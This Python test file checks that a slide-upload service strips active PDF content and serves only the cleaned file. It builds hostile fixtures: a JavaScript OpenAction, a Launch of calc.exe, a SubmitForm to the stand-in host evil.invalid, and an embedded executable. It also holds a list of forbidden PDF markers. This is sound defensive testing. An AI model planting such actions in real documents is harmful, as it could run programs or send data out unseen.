"""Active content in uploaded PDFs: JavaScript, Launch, SubmitForm, ImportData and embedded files are removed
(pikepdf, in a sandboxed child), the speaker is told what, and the cleaned file is what is stored, hashed,
served and archived. A clean PDF stays byte for byte as uploaded; one that cannot be opened is refused."""

from __future__ import annotations

import hashlib
import io
import zipfile
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.fixtures.accounts import csrf_token, login
from tests.fixtures.presentations import pdf_bytes, snapshot, upload
from tests.presentations.test_visibility import end_session, fetch, put_slides, token_for

FORBIDDEN = (b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/ImportData", b"/EmbeddedFiles",
             b"/FileAttachment", b"/EF", b"calc.exe", b"app.alert")


def crafted(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes("aktiv")))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def javascript_action(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('hi')"))


def open_action_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = javascript_action(pdf)


def names_tree_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
        Names=Array([String("start"), pdf.make_indirect(javascript_action(pdf))])))


def launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("calc.exe"))


def submit_form(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.invalid/collect"))))]))


def import_data(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.ImportData, F=String("data.fdf")))


def embedded_file(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"MZ not a real program")
    spec = Dictionary(Type=Name.Filespec, F=String("tool.exe"), EF=Dictionary(F=stream))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("tool.exe"), pdf.make_indirect(spec)])))


def file_attachment(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"attached secret")
    spec = Dictionary(Type=Name.Filespec, F=String("notes.txt"), EF=Dictionary(F=stream))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=spec))])


def javascript_chained_after_uri(pdf: pikepdf.Pdf) -> None:
    """A harmless link whose /Next runs JavaScript: the whole action goes."""
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]),
        A=Dictionary(S=Name.URI, URI=String("https://example.org"), Next=javascript_action(pdf))))])


@pytest.mark.parametrize(("change", "kinds", "label"), [
    (open_action_js, ["javascript"], "JavaScript"),
    (names_tree_js, ["javascript"], "JavaScript"),
    (javascript_chained_after_uri, ["javascript"], "JavaScript"),
    (launch, ["launch"], "Launch"),
    (submit_form, ["submit_form"], "SubmitForm"),
    (import_data, ["import_data"], "ImportData"),
    (embedded_file, ["embedded_files"], "embedded files"),
    (file_attachment, ["embedded_files"], "embedded files"),
])
def test_active_content_is_removed_and_the_cleaned_file_is_served(client, slides_stage, change, kinds,
                                                                  label) -> None:
    original = crafted(change)
    assert any(marker in original for marker in FORBIDDEN)
    body = put_slides(client, slides_stage, data=original)
    assert body["removed_content"] == kinds
    assert label in body["notice"] and "removed" in body["notice"]

    response = fetch(client, body["download_url"], headers=bearer_headers(slides_stage))
    served = response.data
    assert response.status_code == 200 and served != original
    assert not [marker for marker in FORBIDDEN if marker in served]
    assert body["sha256"] == hashlib.sha256(served).hexdigest() and body["size"] == len(served)
    assert response.headers["ETag"].strip('"') == body["sha256"]
    with pikepdf.open(io.BytesIO(served)) as cleaned:
        assert len(cleaned.pages) == 1  # still the deck
        assert "/OpenAction" not in cleaned.Root and "/Names" not in cleaned.Root or \
            not set(cleaned.Root.Names.keys()) & {"/JavaScript", "/EmbeddedFiles"}


def bearer_headers(stage) -> dict[str, str]:
    return {"Authorization": f"Bearer {token_for(stage.speaker)}"}


def test_a_clean_pdf_is_stored_byte_for_byte(client, slides_stage) -> None:
    original = pdf_bytes("sauber")
    body = put_slides(client, slides_stage, data=original)
    assert body["removed_content"] == [] and body["notice"] is None
    assert body["sha256"] == hashlib.sha256(original).hexdigest()
    assert fetch(client, body["download_url"], headers=bearer_headers(slides_stage)).data == original


def test_the_archive_holds_the_cleaned_file(client, slides_stage) -> None:
    body = put_slides(client, slides_stage, filename="aktiv.pdf", data=crafted(open_action_js))
    end_session(slides_stage.session)
    response = fetch(client, f"/events/{slides_stage.event.slug}/presentations/archive.zip")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        (name,) = archive.namelist()
        data = archive.read(name)
    assert hashlib.sha256(data).hexdigest() == body["sha256"] and b"/JavaScript" not in data


def test_the_form_upload_tells_the_speaker_in_german(app, client, slides_stage) -> None:
    login(client, "speaker@example.org")
    slug, session_id = slides_stage.event.slug, slides_stage.session.id
    page = f"/events/{slug}/sessions/{session_id}/slides"
    token = csrf_token(client, page)
    response = client.post(page, data={"csrf_token": token, "file": (io.BytesIO(crafted(launch)), "folien.pdf")},
                           content_type="multipart/form-data", headers={"Accept-Language": "de"})
    assert response.status_code == 303
    shown = fetch(client, page, headers={"Accept-Language": "de"}).get_data(as_text=True)
    assert "Aktive Inhalte wurden aus Ihrer PDF entfernt" in shown and "Launch" in shown


@pytest.mark.parametrize(("data", "code"), [
    (b"%PDF-1.4\nno objects, no trailer\n%%EOF\n", "pdf_unreadable"),
])
def test_a_pdf_that_cannot_be_opened_is_refused_with_nothing_stored(app, client, slides_stage, data,
                                                                    code) -> None:
    before = snapshot(app)
    response = upload(client, slides_stage.session.id, "kaputt.pdf", data, token=token_for(slides_stage.speaker))
    assert response.status_code == 400
    assert response.get_json()["error"] == code and "could not be read" in response.get_json()["message"]
    assert snapshot(app) == before


def test_a_password_protected_pdf_is_refused(app, client, slides_stage) -> None:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes("geheim")))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
    before = snapshot(app)
    response = upload(client, slides_stage.session.id, "geheim.pdf", out.getvalue(),
                      token=token_for(slides_stage.speaker))
    assert response.status_code == 400 and response.get_json()["error"] == "pdf_encrypted"
    assert snapshot(app) == before
